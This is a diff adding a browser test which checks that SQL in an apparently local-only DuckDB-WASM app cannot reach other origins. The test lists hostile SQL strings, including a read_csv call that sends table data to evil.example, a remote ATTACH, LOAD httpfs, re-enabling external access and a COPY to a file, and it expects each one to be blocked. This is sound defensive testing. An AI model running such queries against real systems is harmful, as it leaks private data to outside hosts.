@@ -206,3 +206,30 @@ describe('a whole session stays in the browser', () => {
     expect([...section.matchAll(/`(disclosure-workbench\.[^`]+)`/g)].map((m) => m[1]).sort()).toEqual(LOCAL_STORAGE_KEYS);
   });
 });
+
+describe('SQL cannot reach another origin', () => {
+  // DuckDB-WASM fetches http(s) URLs named in SQL by itself, from its worker; the CSP of index.html's meta tag does
+  // not cover that worker (only a response header would). The engine switches external access off, so nothing is
+  // even attempted: no request at all, not one blocked by the CSP.
+  it('read_csv, a bare URL, ATTACH, INSTALL/LOAD and COPY fail with a message; the data stays queryable', async () => {
+    const before = seen.length;
+    const attempts = [
+      `SELECT * FROM read_csv('http://evil.example/leak.csv?q=' || (SELECT min(title) FROM reports))`,
+      `SELECT * FROM 'https://evil.example/leak.parquet'`,
+      `ATTACH 'https://evil.example/x.duckdb' AS evil`,
+      `LOAD httpfs`,
+      `SET enable_external_access = true`,
+      `COPY (SELECT * FROM reports) TO 'leak.csv'`,
+    ];
+    for (const sql of attempts) {
+      await runSql(page, sql);
+      expect(await page.getByTestId('sql-error').count(), sql).toBe(1);
+    }
+    expect(await page.getByTestId('sql-error').textContent()).toMatch(/disabled by configuration|Permission/);
+    expect(seen.slice(before).filter((r) => !r.url.startsWith(new URL(app.url).origin))).toEqual([]);
+    expect(opened.foreignRequests()).toEqual([]);
+    expect(opened.cspViolations).toEqual([]);
+    await runSql(page, 'SELECT count(*) FROM texts');
+    expect(await page.locator('[data-testid="results-grid"] [role="gridcell"]').first().textContent()).toBe('5');
+  });
+});
